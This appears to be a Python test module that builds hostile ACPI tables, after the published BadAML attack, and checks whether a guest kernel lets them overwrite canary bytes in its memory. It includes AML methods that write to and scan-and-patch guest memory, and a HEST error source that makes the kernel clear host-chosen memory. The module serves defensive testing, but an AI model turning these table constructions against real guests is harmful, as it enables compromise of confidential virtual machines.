"""BadAML and its relatives: code and addresses in the host's ACPI tables, with canaries in guest memory.

Before the machine starts, eight known bytes are put into memory that the guest's kernel owns. Each table tries to
change them; the host reads them back. Sources: Takekoshi et al., BadAML, ACM CCS 2025; ACPI 6.5, 18.3 for error
sources in static tables; Linux 6.12 drivers/acpi/apei/ghes.c for what is done with them.
"""

from collections.abc import Callable, Sequence
from dataclasses import dataclass
from functools import partial
from pathlib import Path
from typing import Final

from warily.adversary import aml
from warily.adversary.attack import Attack, Seen, Together, refused, succeeded, undecided
from warily.adversary.targets import ControlTarget, ImageTarget, Target

PAGE: Final = 0x50000  # conventional memory that Linux reserves for itself (arch/x86/kernel/setup.c)
SCANNED: Final = (0x40000, 0x60000)
SIZE: Final = 8
ALIVE: Final = b"canary!!"
ACPI_WITHIN: Final = 60.0


@dataclass(frozen=True, slots=True, kw_only=True)
class Canary:
    """Where the bytes are, what they are before, and what the table would make of them."""

    address: int
    before: bytes
    after: bytes

    def place(self, path: Path) -> tuple[str, ...]:
        """QEMU's arguments that put it there at every reset."""
        path.write_bytes(self.before)
        return ("-device", f"loader,file={path},addr={self.address:#x},force-raw=on")

    def read(self, target: Target) -> tuple[bytes, str]:
        """What the host reads there now, and the same as a sentence."""
        found = target.memory(self.address, len(self.before))
        where = f"guest memory at {self.address:#x}"
        if found == self.before:
            return found, f"{where} still holds {show(found)}"
        return found, f"{where} was changed from {show(self.before)} to {show(found)}"


def show(content: bytes) -> str:
    """The bytes as text where they are, else as hexadecimal digits."""
    return repr(content.decode()) if content.isascii() and content.decode().isprintable() else content.hex()


def arguments(folder: Path, *, name: str, table: Callable[[], bytes], places: Sequence[Canary]) -> Sequence[str]:
    """The table, and its canaries, as QEMU's arguments."""
    file = folder / f"{name}.aml"
    file.write_bytes(table())
    placed = [word for number, canary in enumerate(places) for word in canary.place(folder / f"{name}.{number}")]
    return ("-acpitable", f"file={file}", *placed)


def on_control(target: ControlTarget, *, canary: Canary) -> Seen:
    """Whether Debian let the table write."""
    found, evidence = canary.read(target)
    return succeeded(evidence) if found == canary.after else refused(evidence)


def on_image(target: ImageTarget, *, canary: Canary) -> Seen:
    """Whether the image did."""
    found, evidence = canary.read(target)
    if found == canary.after:
        return succeeded(evidence)
    if found != canary.before:
        return undecided(f"{evidence}, which is not what the table writes")
    return target.nothing_happened(evidence)


def attack(  # a row of the table, all named at the call
    name: str,
    title: str,
    *,
    catalogue: tuple[str, ...],
    table: Callable[[], bytes],
    canary: Canary,
    more: tuple[Canary, ...] = (),
) -> Attack:
    """A hostile table and the canary that tells whether it was obeyed."""
    return Attack(
        id=f"acpi.{name}",
        title=title,
        component="firmware",
        catalogue=catalogue,
        how=Together(
            arguments=partial(arguments, name=name, table=table, places=(canary, *more)),
            control=partial(on_control, canary=canary),
            image=partial(on_image, canary=canary),
        ),
    )


def canary_at(number: int, after: bytes) -> Canary:
    """The canary in the page's slot `number`, which its table overwrites with `after`."""
    return Canary(address=PAGE + 0x40 * number, before=ALIVE, after=after)


def halves(text: bytes) -> tuple[bytes, bytes]:
    """Eight bytes as two terms."""
    return aml.dword(int.from_bytes(text[:4], "little")), aml.dword(int.from_bytes(text[4:], "little"))


def writing(canary: Canary) -> tuple[bytes, bytes]:
    """The region over the canary, and the two stores that overwrite it."""
    low, high = halves(canary.after)
    region = aml.memory("RAM", aml.dword(canary.address), SIZE, "LOW", "HIGH")
    return region, aml.store(low, aml.segment("LOW")) + aml.store(high, aml.segment("HIGH"))


def in_method(signature: str, canary: Canary, *, name: str, method: str) -> bytes:
    """A device whose `method`, which the kernel calls by itself, writes."""
    region, stores = writing(canary)
    returns = b"\xa4" + b"\x0a\x0f" if method == "_STA" else b""
    body = aml.device(name[:4], "WARI0001", region, aml.method(method, stores, returns))
    return aml.table(signature, body, name=name)


def at_load(signature: str, canary: Canary, *, name: str) -> bytes:
    """Code outside any method, which runs while the table is loaded."""
    region, stores = writing(canary)
    return aml.table(signature, region + aml.when(aml.ONE, stores), name=name)


def scanning(canary: Canary, *, name: str) -> bytes:
    """The shape of the published attack: a method that declares a region where it is told to, called in a loop."""
    wanted, _ = halves(canary.before)
    low, high = halves(canary.after)
    page = aml.memory("PAGE", aml.ARG0, SIZE, "LOW", "HIGH")
    patch = aml.store(high, aml.segment("HIGH")) + aml.store(low, aml.segment("LOW"))
    look = aml.method("LOOK", page, aml.when(aml.equal(aml.segment("LOW"), wanted), patch), arguments=1)
    first, last = (aml.dword(address) for address in SCANNED)
    step = aml.segment("LOOK") + aml.LOCAL0 + aml.add(aml.LOCAL0, aml.dword(0x1000), aml.LOCAL0)
    start = aml.method("_INI", aml.store(first, aml.LOCAL0), aml.loop(aml.less(aml.LOCAL0, last), step))
    return aml.table("SSDT", aml.device(name[:4], "WARI0002", look, start), name=name)


SSDT: Final = canary_at(0, b"AML_INI!")
PSDT: Final = canary_at(1, b"AML_STA!")
OSDT: Final = canary_at(2, b"AML_LOAD")
FOUND: Final = Canary(address=PAGE + 0x4000, before=b"FindMe!!", after=b"AML_SCAN")

# A corrected error in the form of 18.3.2.7.1 (one bit for a correctable error, no section) and, before it, the
# pointer to it that the table names. The kernel acknowledges by writing zeros over the first word.
STATUS: Final = 0x100
BLOCK: Final = b"".join(number.to_bytes(4, "little") for number in (2, 0, 0, 0, 2))
POINTER: Final = Canary(
    address=PAGE + STATUS,
    before=(PAGE + STATUS + 0x40).to_bytes(8, "little"),
    after=(PAGE + STATUS + 0x40).to_bytes(8, "little"),
)
ERROR: Final = Canary(address=PAGE + STATUS + 0x40, before=BLOCK, after=bytes(4) + BLOCK[4:])
POLL_MILLISECONDS: Final = 1000


def error_source() -> bytes:
    """A HEST with one generic error source that is polled, its addresses in memory (ACPI 6.5, 18.3.2.7)."""
    address = bytes([0, 64, 0, 4]) + POINTER.address.to_bytes(8, "little")
    notification = bytes([0, 28, 0, 0]) + POLL_MILLISECONDS.to_bytes(4, "little") + bytes(20)
    source = (
        (9).to_bytes(2, "little")
        + (1).to_bytes(2, "little")
        + b"\xff\xff\0\x01"
        + b"".join(number.to_bytes(4, "little") for number in (1, 1, 4096))
        + address
        + notification
        + (4096).to_bytes(4, "little")
    )
    return aml.table("HEST", (1).to_bytes(4, "little") + source, name="HEST", revision=1)


ATTACKS: Final[tuple[Attack, ...]] = (
    attack(
        "ssdt",
        "A secondary table's _INI method writes into guest memory",
        catalogue=("A01",),
        table=partial(in_method, "SSDT", SSDT, name="WSSDT", method="_INI"),
        canary=SSDT,
    ),
    attack(
        "psdt",
        "The same under the signature PSDT, from the _STA method, past acpi_no_static_ssdt",
        catalogue=("A01", "A06"),
        table=partial(in_method, "PSDT", PSDT, name="WPSDT", method="_STA"),
        canary=PSDT,
    ),
    attack(
        "osdt",
        "The same under the signature OSDT, from code that runs while the table is loaded",
        catalogue=("A01", "A06"),
        table=partial(at_load, "OSDT", OSDT, name="WOSDT"),
        canary=OSDT,
    ),
    attack(
        "scan",
        "A table searches guest memory for a pattern and patches what it finds",
        catalogue=("A01",),
        table=partial(scanning, FOUND, name="WSCAN"),
        canary=FOUND,
    ),
    attack(
        "error-source",
        "A static table without any code has the kernel read, and clear, memory of the host's choice",
        catalogue=("A02",),
        table=error_source,
        canary=ERROR,
        more=(POINTER,),
    ),
)
